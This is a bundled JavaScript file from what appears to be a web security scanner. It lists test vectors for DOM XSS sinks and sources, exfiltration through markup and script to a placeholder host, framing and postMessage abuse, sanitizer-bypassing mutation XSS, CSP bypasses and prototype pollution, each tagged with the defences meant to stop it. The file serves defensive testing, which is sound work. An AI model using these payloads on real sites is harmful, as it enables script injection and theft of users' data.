export const id = 2176;
export const ids = [2176];
export const modules = {

/***/ 12176:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  J: () => (/* binding */ VECTORS)
});

;// CONCATENATED MODULE: ./build/js/anomaly-scan/vectors/dom.js
const REFERENCES = [
    'https://www.w3.org/TR/trusted-types/#injection-sinks',
    'https://cheatsheetseries.owasp.org/cheatsheets/DOM_based_XSS_Prevention_Cheat_Sheet.html',
];
const IMG = '<img src=x: onerror={run}>';
const SCRIPT_FILE = { name: 'script.js', type: 'text/javascript', text: '{run}' };
const BY_MARKUP = ['trusted-types', 'script-src'];
const BY_CODE = ['trusted-types', 'no-unsafe-eval'];
const BY_INLINE = ['script-src', 'trusted-types'];
const BY_LOADING = ['trusted-types', 'no-strict-dynamic'];
const BY_NOTHING = ['application'];
const SINKS = [
    ['D01', 'into innerHTML', 'innerHTML', IMG, BY_MARKUP],
    ['D02', 'into outerHTML', 'outerHTML', IMG, BY_MARKUP],
    ['D03', 'into insertAdjacentHTML', 'insertAdjacentHTML', IMG, BY_MARKUP],
    ['D04', 'into document.write', 'write', IMG, BY_MARKUP],
    ['D05', 'into eval', 'eval', '{run}', BY_CODE],
    ['D06', 'into the constructor of functions', 'Function', '{run}', BY_CODE],
    ['D07', 'into a timer, as a text', 'setTimeout', '{run}', BY_CODE],
    ['D08', 'into the srcdoc of a frame', 'srcdoc', IMG, BY_MARKUP],
    ['D09', 'into location.href', 'location', 'javascript:{run}', BY_INLINE],
    ['D10', 'into the address of a link that is clicked', 'link', 'javascript:{run}', BY_INLINE, { click: true }],
    [
        'D11',
        'into the address of a script',
        'script-src',
        '{foreign}script.js',
        BY_LOADING,
        { foreignFiles: [SCRIPT_FILE] },
    ],
    ['D12', 'into the text of a script', 'script-text', '{run}', BY_LOADING],
    ['D13', 'into a contextual fragment', 'fragment', '<script>{run}</script>', BY_LOADING],
    ['D14', 'through DOMParser, then into the page', 'DOMParser', IMG, BY_MARKUP],
    ['D15', 'into a handler, by setAttribute', 'setAttribute', '{run}', BY_MARKUP],
    [
        'D16',
        'into import(), from another origin',
        'import',
        '{foreign}module.js',
        BY_NOTHING,
        {
            foreignFiles: [{ name: 'module.js', type: 'text/javascript', text: '{run};export default 1' }],
            references: [
                'https://github.com/w3c/webappsec-csp/issues/243',
                'https://github.com/w3c/webappsec-csp/issues/506',
            ],
        },
    ],
    [
        'D17',
        'into import(), as a data: URL',
        'import',
        'data:text/javascript,{run}',
        BY_NOTHING,
        {
            references: [
                'https://github.com/w3c/webappsec-csp/issues/243',
                'https://github.com/w3c/webappsec-csp/issues/506',
            ],
        },
    ],
    ['D20', 'into the address of a frame', 'frame', 'javascript:{run}', BY_INLINE],
    ['D26', 'into document.writeln, a script', 'writeln', '<script>{run}</script>', BY_MARKUP],
    ['D27', 'into a timer that repeats, as a text', 'setInterval', '{run}', BY_CODE],
    ['D28', 'into the constructor of asynchronous functions', 'AsyncFunction', '{run}', BY_CODE],
    ['D29', 'into the constructor of generators', 'GeneratorFunction', '{run}', BY_CODE],
    ['D30', 'into innerHTML of a shadow root', 'shadow', IMG, BY_MARKUP],
    ['D31', 'into setHTMLUnsafe', 'setHTMLUnsafe', IMG, BY_MARKUP],
    ['D32', 'through parseHTMLUnsafe, then into the page', 'parseHTMLUnsafe', IMG, BY_MARKUP],
    ['D33', 'into the document of an empty frame', 'frame-write', IMG, BY_MARKUP],
    ['D34', 'into location.assign', 'assign', 'javascript:{run}', BY_INLINE],
    ['D35', 'into location.replace', 'replace', 'javascript:{run}', BY_INLINE],
    [
        'D36',
        'into the action of a form that is sent',
        'form',
        'javascript:{run}',
        [...BY_INLINE, 'form-action'],
        { click: true },
    ],
    [
        'D37',
        'into the address of a script, by setAttribute',
        'script-attribute',
        '{foreign}script.js',
        BY_LOADING,
        { foreignFiles: [SCRIPT_FILE] },
    ],
    ['D38', 'into a script, as a text node', 'script-node', '{run}', BY_LOADING],
    ['D39', 'into a template, whose content is cloned', 'template', IMG, BY_MARKUP],
    ['D40', 'into an editable element, as HTML', 'execCommand', IMG, BY_MARKUP],
    ['D41', 'into srcdoc, by setAttribute', 'srcdoc-attribute', IMG, BY_MARKUP],
    ['D42', 'into import(), as a blob: URL', 'import-blob', '{run}', BY_NOTHING],
    ['D43', 'into the options of an element, name by name', 'attributes', '{"src":"x:","onerror":"{run}"}', BY_MARKUP],
    ['D44', 'into HTML whose scripts a library runs again, as jQuery does', 'html', '<script>{run}</script>', BY_LOADING],
    ['D45', 'into a document of its own, then adopted by the page', 'adopt', IMG, BY_MARKUP],
    ['D46', 'into a window that is opened', 'open', 'javascript:opener.{run}', BY_INLINE],
];
const SOURCES = [
    [
        'D22',
        'window.name, which survives navigation, into innerHTML',
        'name',
        IMG,
        [...BY_MARKUP, 'opener-policy'],
        { start: { foreign: 'name.html' } },
    ],
    [
        'D23',
        'the address of the page before, into innerHTML',
        'referrer',
        IMG,
        BY_MARKUP,
        { start: { foreign: 'referrer.html' } },
    ],
    ['D24', 'what lies in localStorage, into innerHTML', 'localStorage', IMG, BY_MARKUP, { class: 'stored' }],
    ['D25', 'a cookie, into innerHTML', 'cookie', IMG, BY_MARKUP, { class: 'stored' }],
    ['D47', 'the query of the address, into innerHTML', 'query', IMG, BY_MARKUP],
    ['D48', 'what lies in sessionStorage, into innerHTML', 'sessionStorage', IMG, BY_MARKUP, { class: 'stored' }],
    [
        'D49',
        'an answer of the application with what others wrote, into innerHTML',
        'api',
        IMG,
        [...BY_MARKUP, 'connect-src'],
        { class: 'stored' },
    ],
    [
        'D50',
        'a link that somebody wrote in Markdown',
        'markdown',
        'javascript:{run}',
        BY_INLINE,
        { class: 'stored', click: true },
    ],
    [
        'D51',
        'a block of JSON of the page, into innerHTML',
        'json-block',
        '\\u003cimg src=x: onerror={run}>',
        BY_MARKUP,
        { class: 'stored' },
    ],
    [
        'D52',
        'an attribute with data of the page, into innerHTML',
        'dataset',
        '&lt;img src=x: onerror={run}>',
        BY_MARKUP,
        { class: 'stored' },
    ],
    ['D53', 'the state of the history, into innerHTML', 'history', IMG, BY_MARKUP, { class: 'stored' }],
    [
        'D54',
        'another window of the application, through a channel, into innerHTML',
        'channel',
        IMG,
        BY_MARKUP,
        { class: 'stored' },
    ],
    ['D55', 'where to go next, in the query of the address', 'next', 'javascript:{run}', BY_INLINE],
];
const DOM = [
    ...SINKS.map((row) => vector(row, `what is behind # goes ${row[1]}`, `sink:${row[2]}`)),
    ...SOURCES.map((row) => vector(row, row[1], `source:${row[2]}`)),
];
function vector([id, , , payload, blockedBy, more = {}], idea, place) {
    return { id, class: 'dom', idea, place, payload, proof: 'page', blockedBy, references: REFERENCES, ...more };
}

;// CONCATENATED MODULE: ./build/js/anomaly-scan/vectors/exfiltration-markup.js
const exfiltration_markup_REFERENCES = ['https://www.w3.org/TR/CSP3/#directives-fetch', 'https://lcamtuf.coredump.cx/postxss/'];
const ROWS = [
    ['E01', 'an image', '<img src="{leak}">', 'img-src'],
    [
        'E02',
        'an image whose address is not closed, and takes along what follows',
        "<img src='{foreign}d?",
        'img-src',
        { place: 'dangling' },
    ],
    [
        'E03',
        'a form that is sent elsewhere',
        '<form action="{leak}"><button id=hit>x</button></form>',
        'form-action',
        { click: true },
    ],
    ['E04', 'a refresh that leaves the page', '<meta http-equiv=refresh content="0;url={leak}">', []],
    ['E05', 'an image of a stylesheet', '<style>main{background:url({leak})}</style>', ['style-src', 'img-src']],
    ['E06', 'a stylesheet', '<link rel=stylesheet href="{leak}">', 'style-src'],
    ['E07', 'a page that is fetched beforehand', '<link rel=prefetch href="{leak}">', 'default-src'],
    ['E08', 'an image that is fetched beforehand', '<link rel=preload as=image href="{leak}">', 'img-src'],
    ['E09', 'a frame', '<iframe src="{leak}"></iframe>', 'frame-src'],
    ['E10', 'the picture of a video', '<video poster="{leak}"></video>', 'img-src'],
    [
        'E11',
        'a font of a stylesheet',
        '<style>@font-face{font-family:f;src:url({leak})}b{font-family:f}</style><b>x</b>',
        ['style-src', 'font-src'],
    ],
    ['E12', 'a ping of a link', '<a id=hit href="#x" ping="{leak}">x</a>', 'connect-src', { click: true }],
    [
        'E13',
        'the icon of the page',
        '<link rel=icon href="{leak}">',
        'img-src',
        { dead: 'headless Chromium 153 and 156 fetch no icons' },
    ],
    [
        'E14',
        'the manifest of the application',
        '<link rel=manifest href="{leak}">',
        'manifest-src',
        { dead: 'headless Chromium 153 and 156 fetch no manifests' },
    ],
    ['E15', 'an object', '<object data="{leak}"></object>', ['object-src', 'frame-src']],
    ['E16', 'an image of SVG', '<svg><image href="{leak}" /></svg>', 'img-src'],
    [
        'E17',
        'a button that sends its form elsewhere',
        '<form><button id=hit formaction="{leak}">x</button></form>',
        'form-action',
        { click: true },
    ],
    [
        'C16',
        'a module that is fetched beforehand',
        '<link rel=modulepreload href="{leak}">',
        'no-strict-dynamic',
        { class: 'csp-bypass' },
    ],
    ['E26', 'a video', '<video src="{leak}" preload=auto></video>', 'media-src'],
    ['E27', 'a sound', '<audio src="{leak}" preload=auto></audio>', 'media-src'],
    ['E28', 'subtitles', '<video crossorigin><track default src="{leak}" kind=captions></video>', 'media-src'],
    ['E29', 'something embedded', '<embed src="{leak}">', ['object-src', 'frame-src']],
    ['E30', 'an image button', '<input type=image src="{leak}">', 'img-src'],
    ['E31', 'the old background attribute', '<table background="{leak}"><td>x</table>', 'img-src'],
    ['E32', 'a stylesheet that imports another one', '<style>@import "{leak}";</style>', 'style-src'],
    [
        'E33',
        'an image of a filter of SVG',
        '<svg><filter id=f><feImage href="{leak}" /></filter><rect width=9 height=9 filter=url(#f) /></svg>',
        'img-src',
    ],
    ['E34', 'an image that is chosen by its size', '<img srcset="{leak} 1x">', 'img-src'],
    ['E35', 'an image that is chosen by its type', '<picture><source srcset="{leak}"><img></picture>', 'img-src'],
    [
        'E36',
        'rules by which pages are fetched beforehand',
        '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{leak}"]}]}</script>',
        'script-src',
    ],
    ['E37', 'a link that is clicked', '<a id=hit href="{leak}">x</a>', [], { click: true }],
    ['E38', 'the address of a script', '<script src="{leak}"></script>', 'script-src'],
    [
        'E39',
        'an image in the document of a frame that has no address',
        '<iframe srcdoc="&lt;img src=&quot;{leak}&quot;>"></iframe>',
        'img-src',
    ],
    [
        'E40',
        'a selector of a stylesheet that tells the first letter of a field',
        '<input id=s value="7"><style>input[value^="7"]{background:url({leak})}</style>',
        ['style-src', 'img-src'],
    ],
    [
        'E41',
        'an area of an image, and its ping',
        '<map name=m><area id=hit shape=default href="#x" ping="{leak}"></map><img usemap=#m>',
        'connect-src',
        { click: true },
    ],
    ['E42', 'a script that is fetched beforehand', '<link rel=preload as=script href="{leak}">', 'script-src'],
    ['E43', 'a font that is fetched beforehand', '<link rel=preload as=font crossorigin href="{leak}">', 'font-src'],
    ['E44', 'data that is fetched beforehand', '<link rel=preload as=fetch crossorigin href="{leak}">', 'connect-src'],
    [
        'E45',
        'a policy in the page that reports elsewhere',
        `<meta http-equiv=Content-Security-Policy content="img-src 'none';report-uri {leak}"><img src="{app}x.png">`,
        'default-src',
        { dead: 'Chromium 153: a policy in a page reports nowhere' },
    ],
];
const EXFILTRATION_MARKUP = ROWS.map(([id, idea, payload, defence, more = {}]) => ({
    id,
    class: 'exfiltration',
    idea,
    place: 'text',
    payload,
    proof: 'request',
    blockedBy: ['encoding', ...(typeof defence === 'string' ? [defence] : defence)],
    references: exfiltration_markup_REFERENCES,
    ...more,
}));

;// CONCATENATED MODULE: ./build/js/anomaly-scan/vectors/exfiltration-script.js
const exfiltration_script_REFERENCES = ['https://www.w3.org/TR/CSP3/#directive-connect-src', 'https://www.w3.org/TR/CSP3/#exfiltration'];
const exfiltration_script_ROWS = [
    ['E18', 'fetch', "fetch('{leak}',{mode:'no-cors'})", 'connect-src'],
    ['E19', 'a beacon', "navigator.sendBeacon('{leak}')", 'connect-src'],
    ['E20', 'a WebSocket', "new WebSocket('{leak}'.replace('http','ws'))", 'connect-src'],
    ['E21', 'an event source', "new EventSource('{leak}')", 'connect-src'],
    ['E22', 'an image', "new Image().src='{leak}'", 'img-src'],
    ['E23', 'the page is left', "location='{leak}'"],
    [
        'E24',
        'a page is fetched beforehand',
        "document.head.append(Object.assign(document.createElement('link'),{rel:'prefetch',href:'{leak}'}))",
        'default-src',
    ],
    ['E25', 'a window is opened', "open('{leak}')"],
    ['E46', 'an old request', "{let x=new XMLHttpRequest();x.open('GET','{leak}');x.send()}", 'connect-src'],
    [
        'E47',
        'a request that outlives the page',
        "fetch('{leak}',{mode:'no-cors',keepalive:true,method:'POST',body:'x'})",
        'connect-src',
    ],
    [
        'E48',
        'a form that is sent',
        "{let f=document.createElement('form');f.action='{leak}';document.body.append(f);f.submit()}",
        'form-action',
    ],
    [
        'E49',
        'a form that is sent to a frame',
        "{let i=document.createElement('iframe'),f=document.createElement('form');i.name='i';f.target='i';f.action='{leak}';document.body.append(i,f);f.submit()}",
        'form-action',
        { blockedBy: ['form-action', 'frame-src'] },
    ],
    ['E50', 'a font', "new FontFace('f','url({leak})').load()", 'font-src'],
    ['E51', 'a sound', "new Audio('{leak}').load()", 'media-src'],
    [
        'E52',
        'a frame',
        "document.body.append(Object.assign(document.createElement('iframe'),{src:'{leak}'}))",
        'frame-src',
    ],
    [
        'E53',
        'a link that the script clicks',
        "{let a=document.createElement('a');a.href='{leak}';document.body.append(a);a.click()}",
    ],
    [
        'E54',
        'a stylesheet',
        "document.head.append(Object.assign(document.createElement('link'),{rel:'stylesheet',href:'{leak}'}))",
        'style-src',
    ],
    ['E55', 'an image of a style that the script sets', "document.body.style.backgroundImage='url({leak})'", 'img-src'],
    [
        'E56',
        'what is behind a name of a host, told to a server that helps connections through firewalls',
        "{let p=new RTCPeerConnection({iceServers:[{urls:'stun:{datagrams}'}]});p.createDataChannel('x');p.createOffer().then((o)=>p.setLocalDescription(o))}",
        undefined,
        { references: ['https://github.com/w3c/webappsec-csp/issues/92'] },
    ],
    [
        'E57',
        'a stylesheet that the script writes',
        "{let s=new CSSStyleSheet();s.replaceSync('main{background:url({leak})}');document.adoptedStyleSheets=[s]}",
        'img-src',
    ],
    [
        'E58',
        'a page is loaded beforehand, by rules',
        '{let s=document.createElement(\'script\');s.type=\'speculationrules\';s.textContent=\'{"prefetch":[{"source":"list","urls":["{leak}"]}]}\';document.body.append(s)}',
        'trusted-types',
        { blockedBy: ['trusted-types', 'no-strict-dynamic'] },
    ],
    [
        'E59',
        'window.name, which the next page of this window reads',
        "window.name='{token}';location='{foreign}name-reader.html'",
        'opener-policy',
        {
            foreignFiles: [
                { name: 'name-reader.html', type: 'text/html', text: "<script>fetch('got?'+window.name)</script>" },
            ],
        },
    ],
];
const EXFILTRATION_SCRIPT = exfiltration_script_ROWS.map(([id, idea, code, defence, more = {}]) => ({
    id,
    class: 'exfiltration',
    idea: `a script of the page tells somebody: ${idea}`,
    place: 'own-script',
    payload: code,
    proof: 'request',
    blockedBy: [defence ?? 'application'],
    references: exfiltration_script_REFERENCES,
    ...more,
}));

;// CONCATENATED MODULE: ./build/js/anomaly-scan/vectors/framing.js
const FRAMES = 'https://www.w3.org/TR/CSP3/#directive-frame-ancestors';
const OPENERS = 'https://html.spec.whatwg.org/multipage/browsers.html#cross-origin-opener-policies';
const LEAKS = 'https://xsleaks.dev/';
const MESSAGES = 'https://html.spec.whatwg.org/multipage/web-messaging.html#security-postmsg';
const SCRIPT = { name: 'script.js', type: 'text/javascript', text: '{run}' };
const FRAME = '<iframe src="{page}" onload="{then}"></iframe>';
function framing(then) {
    return { name: 'frame.html', type: 'text/html', text: `<!doctype html>${FRAME.replace('{then}', then)}` };
}
function opening(then) {
    const code = `const w=open('{page}');setInterval(()=>{${then}},50)`;
    return { name: 'open.html', type: 'text/html', text: `<!doctype html><script>${code}</script>` };
}
const SAY = "this.contentWindow.postMessage(atob('{payload-base64}'),'*')";
const SAY_WINDOW = "w.postMessage(atob('{payload-base64}'),'*')";
const framing_IMG = '<img src=x: onerror={run}>';
const framing_ROWS = [
    [
        'F01',
        'framing',
        'the application works inside a frame of another site',
        'framed',
        '',
        ['frame-ancestors'],
        framing(''),
        [FRAMES],
    ],
    [
        'F02',
        'message',
        'a site that frames the application sends HTML that it shows',
        'message:innerHTML',
        framing_IMG,
        ['frame-ancestors', 'trusted-types', 'script-src'],
        framing(SAY),
        [MESSAGES, FRAMES],
    ],
    [
        'F03',
        'message',
        'a site that frames the application sends code that it evaluates',
        'message:eval',
        '{run}',
        ['frame-ancestors', 'no-unsafe-eval', 'trusted-types'],
        framing(SAY),
        [MESSAGES, FRAMES],
    ],
    [
        'F04',
        'message',
        'a site that opened the application sends HTML that it shows',
        'message:innerHTML',
        framing_IMG,
        ['opener-policy', 'trusted-types', 'script-src'],
        opening(SAY_WINDOW),
        [MESSAGES, OPENERS],
    ],
    [
        'F09',
        'message',
        'a site that opened the application sends code that it evaluates',
        'message:eval',
        '{run}',
        ['opener-policy', 'no-unsafe-eval', 'trusted-types'],
        opening(SAY_WINDOW),
        [MESSAGES, OPENERS],
    ],
    [
        'F10',
        'message',
        'a site that opened the application sends an address to go to',
        'message:location',
        'javascript:{run}',
        ['opener-policy', 'script-src', 'trusted-types'],
        opening(SAY_WINDOW),
        [MESSAGES, OPENERS],
    ],
    [
        'F11',
        'message',
        'a site that frames the application sends the address of a script',
        'message:script-src',
        '{foreign}script.js',
        ['frame-ancestors', 'trusted-types', 'no-strict-dynamic'],
        framing(SAY),
        [MESSAGES, FRAMES],
        { foreignFiles: [framing(SAY), SCRIPT] },
    ],
    [
        'F12',
        'message',
        'the application tells whoever frames it',
        'own-script',
        "parent.postMessage('{token}','*')",
        ['frame-ancestors'],
        {
            name: 'frame.html',
            type: 'text/html',
            text: '<!doctype html><script>onmessage=(e)=>fetch(\'got?\'+e.data)</script><iframe src="{page}"></iframe>',
        },
        [MESSAGES],
        { proof: 'request' },
    ],
    [
        'F13',
        'message',
        'the application tells whoever opened it',
        'own-script',
        "opener?.postMessage('{token}','*')",
        ['opener-policy'],
        {
            name: 'open.html',
            type: 'text/html',
            text: "<!doctype html><script>onmessage=(e)=>fetch('got?'+e.data);open('{page}')</script>",
        },
        [MESSAGES, OPENERS],
        { proof: 'request' },
    ],
    [
        'F14',
        'framing',
        'a site that opened the application counts its frames',
        'own-script',
        "document.body.append(document.createElement('iframe'))",
        ['opener-policy'],
        opening("if(w.length===1)fetch('got?{token}')"),
        [LEAKS, OPENERS],
        { proof: 'request' },
    ],
    [
        'F15',
        'framing',
        'another site runs a script with data of the application',
        'text',
        '',
        ['resource-policy'],
        {
            name: 'include.html',
            type: 'text/html',
            text: '<!doctype html><script>function data(x){fetch(\'got?\'+x)}</script><script src="{app}data.js"></script>',
        },
        ['https://fetch.spec.whatwg.org/#cross-origin-resource-policy-header'],
        { proof: 'request' },
    ],
    [
        'F16',
        'framing',
        'a site that was opened by the application leads it elsewhere',
        'text',
        '<a id=hit target=_blank rel=opener href="{foreign}opened.html">x</a>',
        ['encoding', 'opener-policy'],
        { name: 'opened.html', type: 'text/html', text: "<!doctype html><script>opener.location='{leak}'</script>" },
        [OPENERS],
        { proof: 'request', click: true, start: 'page' },
    ],
];
const FRAMING = framing_ROWS.map(([id, of, idea, place, payload, blockedBy, file, references, more = {}]) => ({
    id,
    class: of,
    idea,
    place,
    payload,
    proof: 'page',
    blockedBy,
    references,
    foreignFiles: [file],
    start: { foreign: file.name },
    ...more,
}));

;// CONCATENATED MODULE: ./build/js/anomaly-scan/vectors/mutation.js
const mutation_REFERENCES = [
    'https://research.securitum.com/mutation-xss-via-mathml-mutation-dompurify-2-0-17-bypass/',
    'https://cure53.de/fp170.pdf',
];
const mutation_ROWS = [
    [
        'M01',
        'a table moves a style element into MathML, and an attribute ends a comment',
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror={run}&gt;">',
        'Chromium 153 and 156, which escape < and > in attributes',
    ],
    [
        'M02',
        'a paragraph closes SVG, and an attribute ends a style element',
        '<svg></p><style><a id="</style><img src=x: onerror={run}>">',
        'Chromium 153 and 156, which escape < and > in attributes',
    ],
    [
        'M03',
        'noscript is read once as markup and once as text',
        '<noscript><p title="</noscript><img src=x: onerror={run}>">',
        'Chromium 153 and 156, which escape < and > in attributes',
    ],
    [
        'M04',
        'nested forms move a style element from MathML to HTML',
        '<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror={run}></style></mglyph></form></mtext></math></form>',
    ],
    [
        'M05',
        'a form whose field is called attributes hides its handlers from the sanitizer',
        '<form id=f tabindex=1 autofocus onfocus={run}><input name=attributes></form>',
    ],
    [
        'M06',
        'a template, into which the sanitizer does not look',
        '<div><template shadowrootmode=open><img src=x: onerror={run}></template></div>',
    ],
    [
        'M07',
        'a document in the srcdoc of a frame, an attribute that the sanitizer keeps',
        '<iframe srcdoc="&lt;img src=x: onerror={run}>"></iframe>',
    ],
    [
        'M08',
        'an address that the sanitizer does not look at, behind a control character',
        '<iframe src="&#1;javascript:{run}"></iframe>',
    ],
];
const MUTATION = mutation_ROWS.map(([id, idea, payload, dead]) => ({
    id,
    class: 'mutation',
    idea,
    place: id === 'M06' ? 'sink:sanitized-unsafe' : 'sink:sanitized',
    payload,
    proof: 'page',
    blockedBy: ['trusted-types', 'script-src'],
    references: mutation_REFERENCES,
    ...(dead === undefined ? {} : { dead }),
}));

;// CONCATENATED MODULE: ./build/js/anomaly-scan/vectors/policy-bypass.js
const DEAD_CSP = 'https://research.google/pubs/csp-is-dead-long-live-csp-on-the-insecurity-of-whitelists-and-the-future-of-content-security-policy/';
const CSP3 = 'https://www.w3.org/TR/CSP3/';
const GADGETS = 'https://github.com/google/security-research-pocs/tree/master/script-gadgets';
const policy_bypass_SCRIPT = { name: 'script.js', type: 'text/javascript', text: '{run}' };
const JSONP = { name: 'jsonp.js', type: 'text/javascript', text: '{run}({"a":1})' };
const EVALUATOR = {
    name: 'evaluator.js',
    type: 'text/javascript',
    text: "addEventListener('DOMContentLoaded',()=>document.querySelectorAll('[x-if]').forEach((e)=>Function(e.getAttribute('x-if'))()))",
};
const BYPASSES = [
    [
        'C01',
        'an answer with a callback (JSONP) at a host that the policy lists',
        'text',
        '<script src="{listed}jsonp.js"></script>',
        ['encoding', 'script-src'],
        [DEAD_CSP],
        { foreignFiles: [JSONP] },
    ],
    [
        'C02',
        'a library that evaluates expressions of the page, at a host that the policy lists',
        'text',
        '<script src="{listed}evaluator.js"></script><b x-if="{run}"></b>',
        ['encoding', 'script-src', 'no-unsafe-eval', 'trusted-types'],
        [DEAD_CSP, GADGETS],
        { foreignFiles: [EVALUATOR] },
    ],
    [
        'C03',
        'a base element that sends relative addresses of scripts elsewhere',
        'before-scripts',
        '<base href="{foreign}{token}/">',
        ['encoding', 'base-uri'],
        [`${CSP3}#directive-base-uri`],
        { proof: 'request' },
    ],
    [
        'C04',
        'a nonce that was the same in an earlier answer',
        'text',
        '<script nonce="{known-nonce}">{run}</script>',
        ['encoding', 'strict-nonce'],
        [`${CSP3}#security-nonces`],
    ],
    [
        'C05',
        'a script that somebody uploaded to the application',
        'text',
        '<script src="{app}up/a.js"></script>',
        ['encoding', 'script-src'],
        [`${CSP3}#directive-script-src`],
        { uploads: [{ name: 'a.js', type: 'text/javascript', text: '{run}' }] },
    ],
    [
        'C06',
        'a script in a data: URL',
        'text',
        '<script src="data:text/javascript,{run}"></script>',
        ['encoding', 'script-src'],
        [CSP3],
    ],
    [
        'C15',
        'an import map that sends a module elsewhere',
        'before-scripts',
        '<script type=importmap>{"imports":{"{app}lib.js":"{foreign}module.js"}}</script>',
        ['encoding', 'script-src'],
        ['https://html.spec.whatwg.org/multipage/webappapis.html#import-maps'],
        { foreignFiles: [{ name: 'module.js', type: 'text/javascript', text: '{run};export default 1' }] },
    ],
    [
        'C17',
        'a module that somebody uploaded to the application',
        'text',
        '<script type=module src="{app}up/a.js"></script>',
        ['encoding', 'script-src'],
        [CSP3],
        { uploads: [{ name: 'a.js', type: 'text/javascript', text: '{run};export default 1' }] },
    ],
    [
        'C18',
        'a script tag that is not closed, and swallows the nonce of the next one',
        'before-script',
        '<script src="{foreign}script.js" x=',
        ['encoding', 'script-src'],
        [`${CSP3}#security-nonce-hijacking`],
        { foreignFiles: [policy_bypass_SCRIPT] },
    ],
    [
        'C19',
        'a script of SVG with a data: URL',
        'text',
        '<svg><script href="data:text/javascript,{run}"></script></svg>',
        ['encoding', 'script-src'],
        [CSP3],
    ],
    [
        'C20',
        'a script of SVG from another origin',
        'text',
        '<svg><script href="{foreign}script.js"></script></svg>',
        ['encoding', 'script-src'],
        [CSP3],
        { foreignFiles: [policy_bypass_SCRIPT] },
    ],
    [
        'C21',
        'a script from another origin',
        'text',
        '<script src="{foreign}script.js"></script>',
        ['encoding', 'script-src'],
        [CSP3],
        { foreignFiles: [policy_bypass_SCRIPT] },
    ],
    [
        'C22',
        'a module from another origin',
        'text',
        '<script type=module src="{foreign}script.js"></script>',
        ['encoding', 'script-src'],
        [CSP3],
        { foreignFiles: [policy_bypass_SCRIPT] },
    ],
    [
        'C23',
        'an upload of plain text, loaded as a script',
        'text',
        '<script src="{app}up/notes.txt"></script>',
        ['encoding', 'script-src', 'nosniff'],
        ['https://fetch.spec.whatwg.org/#x-content-type-options-header'],
        { uploads: [{ name: 'notes.txt', type: 'text/plain', text: '{run}' }] },
    ],
    [
        'C24',
        'a script of a frame that has no address, and the policy of the page',
        'text',
        '<iframe srcdoc="&lt;script src=&quot;{foreign}script.js&quot;>&lt;/script>"></iframe>',
        ['encoding', 'script-src'],
        [CSP3],
        { foreignFiles: [policy_bypass_SCRIPT] },
    ],
    [
        'C25',
        'a script by way of a redirect of the application',
        'text',
        '<script src="{app}go?{foreign}script.js"></script>',
        ['encoding', 'script-src'],
        [`${CSP3}#source-list-paths-and-redirects`],
        { foreignFiles: [policy_bypass_SCRIPT] },
    ],
];
const GADGET_ROWS = [
    [
        'C07',
        'an attribute with an expression, which the application evaluates',
        'gadget:expression',
        '<b data-if="{run}"></b>',
        ['encoding', 'no-unsafe-eval', 'trusted-types'],
        [GADGETS],
    ],
    [
        'C08',
        'an attribute with HTML, which the application shows',
        'gadget:html',
        '<b data-html="&lt;img src=x: onerror={run}>"></b>',
        ['encoding', 'script-src', 'trusted-types'],
        [GADGETS],
    ],
    [
        'C09',
        'an attribute with an address, from which the application loads a script',
        'gadget:script',
        '<b data-script="{foreign}script.js"></b>',
        ['encoding', 'trusted-types', 'no-strict-dynamic'],
        [GADGETS],
        { foreignFiles: [policy_bypass_SCRIPT] },
    ],
    [
        'C10',
        'elements whose names stand in for a variable with the address of a script',
        'gadget:clobber',
        '<a id=settings></a><a id=settings name=address href="{foreign}script.js"></a>',
        ['encoding', 'trusted-types', 'no-strict-dynamic'],
        ['https://html.spec.whatwg.org/multipage/nav-history-apis.html#named-access-on-the-window-object'],
        { foreignFiles: [policy_bypass_SCRIPT] },
    ],
    [
        'C26',
        'an image that stands in for document.currentScript, by which bundles find their parts',
        'gadget:current-script',
        '<img name=currentScript src="{foreign}">',
        ['encoding', 'trusted-types', 'no-strict-dynamic'],
        ['https://github.com/webpack/webpack/security/advisories/GHSA-4vvj-4cpr-p986'],
        { foreignFiles: [{ ...policy_bypass_SCRIPT, name: 'part.js' }] },
    ],
    [
        'C27',
        'an attribute with the name of a template of the page',
        'gadget:template',
        '<template id=t><img src=x: onerror={run}></template><b data-template=t></b>',
        ['encoding', 'script-src'],
        [GADGETS],
    ],
    [
        'C28',
        'an attribute with a handler for the application, by name and code',
        'gadget:handler',
        '<b data-on="load" data-do="{run}"></b>',
        ['encoding', 'no-unsafe-eval', 'trusted-types'],
        [GADGETS],
    ],
];
const POLICY_BYPASS = [
    ...BYPASSES.map((row) => policy_bypass_vector(row, 'csp-bypass')),
    ...GADGET_ROWS.map((row) => policy_bypass_vector(row, 'gadget')),
];
function policy_bypass_vector([id, idea, place, payload, blockedBy, references, more = {}], of) {
    return { id, class: of, idea, place, payload, proof: 'page', blockedBy, references, ...more };
}

;// CONCATENATED MODULE: ./build/js/anomaly-scan/vectors/prototype-pollution.js
const prototype_pollution_REFERENCES = [
    'https://github.com/BlackFan/client-side-prototype-pollution',
    'https://cwe.mitre.org/data/definitions/1321.html',
];
const prototype_pollution_IMG = '<img src=x: onerror={run}>';
const prototype_pollution_BY_MARKUP = ['trusted-types', 'script-src'];
const prototype_pollution_ROWS = [
    [
        'F05',
        '__proto__ in JSON that is merged, read by a template',
        'pollution:merge',
        `{"__proto__":{"html":"${prototype_pollution_IMG}"}}`,
        prototype_pollution_BY_MARKUP,
    ],
    [
        'F06',
        'constructor.prototype in JSON that is merged, read by a template',
        'pollution:merge',
        `{"constructor":{"prototype":{"html":"${prototype_pollution_IMG}"}}}`,
        prototype_pollution_BY_MARKUP,
    ],
    [
        'F07',
        '__proto__ in JSON that is merged, read as the address of a script',
        'pollution:merge',
        '{"__proto__":{"address":"{foreign}script.js"}}',
        ['trusted-types', 'no-strict-dynamic'],
    ],
    [
        'F17',
        '__proto__ in a query that is taken apart, read by a template',
        'pollution:query',
        `__proto__[html]=${prototype_pollution_IMG}`,
        prototype_pollution_BY_MARKUP,
    ],
    [
        'F18',
        'constructor in a query that is taken apart, read by a template',
        'pollution:query',
        `constructor[prototype][html]=${prototype_pollution_IMG}`,
        prototype_pollution_BY_MARKUP,
    ],
    ['F19', 'a path that is set, read by a template', 'pollution:path', `__proto__.html=${prototype_pollution_IMG}`, prototype_pollution_BY_MARKUP],
    [
        'F20',
        '__proto__ in JSON that is merged, read as the srcdoc of a frame',
        'pollution:merge',
